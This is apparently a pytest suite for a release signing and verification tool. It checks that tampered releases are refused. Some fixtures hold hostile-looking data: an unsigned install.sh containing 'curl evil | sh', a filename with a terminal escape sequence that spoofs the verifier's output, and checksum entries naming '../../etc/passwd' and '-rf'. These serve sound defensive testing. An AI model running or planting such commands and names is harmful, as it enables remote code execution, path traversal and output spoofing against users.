"""A release is believed whole or not at all: the real scripts and real keys, on small files."""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.packaging.tools import PACKAGING, needs, run

COMMIT = "0123456789abcdef0123456789abcdef01234567"
VERSION = "1.2.3"
FILES = ("runloop_1.2.3~deb12u1_amd64.deb", "runloop_1.2.3~deb12u1_arm64.deb", "runloop-1.2.3.tar.gz")


@dataclass(frozen=True)
class Keys:
    """Throw-away keys, without a password."""

    minisign: Path
    public: Path
    provenance: Path

    @classmethod
    def made(cls, place: Path) -> Keys:
        place.mkdir()
        keys = cls(place / "r.key", place / "r.pub", place / "provenance.key")
        done = run("minisign", "-G", "-W", "-f", "-s", keys.minisign, "-p", keys.public)
        assert done.returncode == 0, done.stderr
        run("openssl", "genpkey", "-algorithm", "ed25519", "-out", keys.provenance)
        keys.provenance.chmod(0o600)
        return keys


def seal(folder: Path, keys: Keys, version: str = VERSION) -> subprocess.CompletedProcess[str]:
    return run(
        PACKAGING / "release" / "seal",
        folder,
        version,
        COMMIT,
        keys.minisign,
        keys.provenance,
        RUNLOOP_PYTHON=sys.executable,
    )


def verify(folder: Path, key: Path | str, *version: str) -> subprocess.CompletedProcess[str]:
    return run(PACKAGING / "release" / "verify", folder, key, *version)


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Keys:
    needs("minisign", "openssl", package="minisign openssl")
    return Keys.made(tmp_path_factory.mktemp("release") / "keys")


@pytest.fixture(scope="module")
def sealed(tmp_path_factory: pytest.TempPathFactory, keys: Keys) -> Path:
    folder = tmp_path_factory.mktemp("sealed") / VERSION
    folder.mkdir()
    for name in FILES:
        (folder / name).write_bytes(name.encode() * 100)
    done = seal(folder, keys)
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture
def release(sealed: Path, tmp_path: Path) -> Path:
    """A copy to be tampered with."""
    return Path(shutil.copytree(sealed, tmp_path / "release"))


def test_a_whole_release_is_taken_by_key_file_or_line_and_says_where_it_came_from(
    sealed: Path, keys: Keys
) -> None:
    done = verify(sealed, keys.public, VERSION)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == f"runloop {VERSION}: 5 files, whole and signed; built from commit {COMMIT}\n"
    assert verify(sealed, keys.public.read_text().splitlines()[1]).returncode == 0


def test_a_line_is_the_key_whatever_file_is_called_like_it(
    sealed: Path, keys: Keys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    line = keys.public.read_text().splitlines()[1]
    (tmp_path / line).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / line).write_text("a mirror's own key")
    monkeypatch.chdir(tmp_path)
    assert verify(sealed, line).returncode == 0


def test_a_key_that_came_with_the_files_is_not_asked(release: Path, keys: Keys) -> None:
    shutil.copy(keys.public, release / "runloop.pub")
    done = verify(release, release / "runloop.pub")
    assert (done.returncode, "the folder that it is to judge" in done.stderr) == (2, True)


def test_sealing_again_signs_the_same_statement(sealed: Path, keys: Keys, release: Path) -> None:
    assert seal(release, keys).returncode == 0
    for name in ("SHA256SUMS", "provenance.intoto.jsonl", "provenance.pem"):
        assert (release / name).read_bytes() == (sealed / name).read_bytes()
    assert verify(release, keys.public).returncode == 0


def refused(done: subprocess.CompletedProcess[str], *words: str) -> None:
    assert done.returncode == 1, done.stdout + done.stderr
    assert done.stderr.endswith("verify: REFUSED\n")
    assert done.stdout == ""
    for word in words:
        assert word in done.stderr


def flip(path: Path, at: int = -1) -> None:
    data = bytearray(path.read_bytes())
    data[at] ^= 1
    path.write_bytes(data)


def listed(folder: Path) -> list[str]:
    """The files that the list of checksums names: all but the list and the signatures."""
    return sorted(
        path.name for path in folder.iterdir() if "SHA256" not in path.name and path.suffix != ".minisig"
    )


def test_a_turned_bit_in_any_file_is_refused_by_its_name(release: Path, keys: Keys) -> None:
    assert len(listed(release)) == len(FILES) + 2
    for name in listed(release):
        flip(release / name)
    refused(verify(release, keys.public), *(f"{name}: altered" for name in listed(release)))


def test_a_turned_bit_in_any_signature_is_refused_by_its_name(release: Path, keys: Keys) -> None:
    for name in listed(release):
        signature = release / f"{name}.minisig"
        flip(signature, signature.read_bytes().index(b"\n") + 60)
    refused(verify(release, keys.public), *(f"{name}.minisig: " for name in listed(release)))


@pytest.mark.parametrize("name", ["SHA256SUMS", "SHA256SUMS.minisig"])
def test_a_turned_bit_in_the_list_or_its_signature_refuses_everything(
    release: Path, keys: Keys, name: str
) -> None:
    flip(release / name, 100)
    refused(verify(release, keys.public), "SHA256SUMS: altered")


def test_a_missing_file_or_signature_is_refused_by_its_name(release: Path, keys: Keys) -> None:
    gone = [FILES[0], f"{FILES[1]}.minisig", "provenance.intoto.jsonl"]
    for name in gone:
        (release / name).unlink()
    refused(verify(release, keys.public), *(f"{name}: missing" for name in gone))
    (release / "SHA256SUMS.minisig").unlink()
    refused(verify(release, keys.public), "SHA256SUMS.minisig: missing")


def swapped_with_its_signature(folder: Path) -> str:
    """Both are ours and signed; they are only not what they are called."""
    one, other = folder / FILES[0], folder / FILES[1]
    for suffix in ("", ".minisig"):
        a, b = Path(f"{one}{suffix}"), Path(f"{other}{suffix}")
        data = a.read_bytes()
        a.write_bytes(b.read_bytes())
        b.write_bytes(data)
    return f"{FILES[0]}.minisig: belongs to another file"


def something_beside_it(folder: Path) -> str:
    (folder / "install.sh").write_text("curl evil | sh\n")
    return "install.sh: nobody signed it"


def something_hidden(folder: Path) -> str:
    (folder / ".install").write_text("")
    return ".install: nobody signed it"


def a_name_that_acts_on_a_terminal(folder: Path) -> str:
    (folder / "\x1b]0;x\x07\nverify: all is well").write_text("")
    return "?]0;x??verify: all is well: nobody signed it"


def a_name_of_ours_and_another_line(folder: Path) -> str:
    (folder / f"{FILES[0]}\nx").write_text("")
    return f"{FILES[0]}?x: nobody signed it"


def a_link_in_place_of_a_file(folder: Path) -> str:
    name = folder / FILES[0]
    moved = folder.parent / "elsewhere"
    name.rename(moved)
    name.symlink_to(moved)
    return f"{FILES[0]}: missing"


@pytest.mark.parametrize(
    "tamper",
    [
        swapped_with_its_signature,
        something_beside_it,
        something_hidden,
        a_name_that_acts_on_a_terminal,
        a_name_of_ours_and_another_line,
        a_link_in_place_of_a_file,
    ],
    ids=lambda tamper: tamper.__name__,
)
def test_what_is_not_in_its_place_is_refused_by_its_name(
    release: Path, keys: Keys, tamper: Callable[[Path], str]
) -> None:
    said = tamper(release)
    refused(verify(release, keys.public), said)


def test_a_release_of_another_key_is_refused_as_a_whole(release: Path, keys: Keys, tmp_path: Path) -> None:
    others = Keys.made(tmp_path / "others")
    assert seal(release, others).returncode == 0
    refused(verify(release, keys.public), "SHA256SUMS: altered, or signed by another key")


def test_one_file_signed_by_another_key_is_refused(release: Path, keys: Keys, tmp_path: Path) -> None:
    others = Keys.made(tmp_path / "others")
    run("minisign", "-S", "-s", others.minisign, "-m", release / FILES[0])
    refused(verify(release, keys.public), f"{FILES[0]}.minisig: missing, or does not fit")


def test_another_version_than_was_asked_for_is_refused(sealed: Path, keys: Keys) -> None:
    refused(verify(sealed, keys.public, "1.2.4"), "this is release 1.2.3, not 1.2.4")


def sign_anew(folder: Path, keys: Keys) -> None:
    """The list and every signature, as a careless signer would; the provenance stays as it is."""
    for path in folder.glob("*.minisig"):
        path.unlink()
    (folder / "SHA256SUMS").unlink()
    done = run("sh", "-c", "sha256sum -- * > ../sums && mv ../sums SHA256SUMS", cwd=folder)
    assert done.returncode == 0, done.stderr
    run("minisign", "-S", "-s", keys.minisign, "-m", *(p for p in folder.iterdir() if p.name != "SHA256SUMS"))
    run("minisign", "-S", "-s", keys.minisign, "-t", f"runloop {VERSION}", "-m", folder / "SHA256SUMS")


def test_a_provenance_of_other_files_is_refused_though_the_list_is_signed(release: Path, keys: Keys) -> None:
    flip(release / FILES[0])
    sign_anew(release, keys)
    refused(verify(release, keys.public), f"{FILES[0]}: the provenance does not speak of this file")


def test_a_provenance_of_another_key_is_refused_though_the_list_is_signed(
    release: Path, keys: Keys, tmp_path: Path
) -> None:
    others = Keys.made(tmp_path / "others")
    pem = run("openssl", "pkey", "-in", others.provenance, "-pubout").stdout
    (release / "provenance.pem").write_text(pem)
    sign_anew(release, keys)
    refused(verify(release, keys.public), "provenance.intoto.jsonl: its signature does not hold")


def test_a_provenance_of_another_version_is_refused_though_the_list_is_signed(
    release: Path, keys: Keys
) -> None:
    assert seal(release, keys, "1.2.2").returncode == 0
    sign_anew(release, keys)
    refused(verify(release, keys.public), "provenance.intoto.jsonl: speaks of another version")


@pytest.mark.parametrize("line", ["../../etc/passwd", "a b", "-rf", ".bashrc", ""])
def test_a_list_that_names_anything_but_plain_files_is_refused(release: Path, keys: Keys, line: str) -> None:
    sums = release / "SHA256SUMS"
    sums.write_text(sums.read_text() + f"{'0' * 64}  {line}\n")
    run("minisign", "-S", "-s", keys.minisign, "-t", f"runloop {VERSION}", "-m", sums)
    refused(verify(release, keys.public), "SHA256SUMS: holds a line of another form")


def test_a_key_in_the_folder_that_is_published_is_not_used(release: Path, keys: Keys) -> None:
    inside = release / "r.key"
    shutil.copy(keys.minisign, inside)
    done = run(
        PACKAGING / "release" / "seal",
        *(release, VERSION, COMMIT, inside, keys.provenance),
        RUNLOOP_PYTHON=sys.executable,
    )
    assert done.returncode == 1
    assert "lies in the folder that is published" in done.stderr
    # And nobody publishes it by accident, either: it is a file that nobody signed.
    refused(verify(release, keys.public), "r.key: nobody signed it")


def test_a_provenance_key_that_others_can_read_is_not_used(release: Path, keys: Keys, tmp_path: Path) -> None:
    exposed = tmp_path / "exposed.key"
    shutil.copy(keys.provenance, exposed)
    exposed.chmod(0o644)
    done = run(
        PACKAGING / "release" / "seal",
        *(release, VERSION, COMMIT, keys.minisign, exposed),
        RUNLOOP_PYTHON=sys.executable,
    )
    assert done.returncode == 1
    assert "has mode 0644" in done.stderr
    assert not (release / "SHA256SUMS").exists()
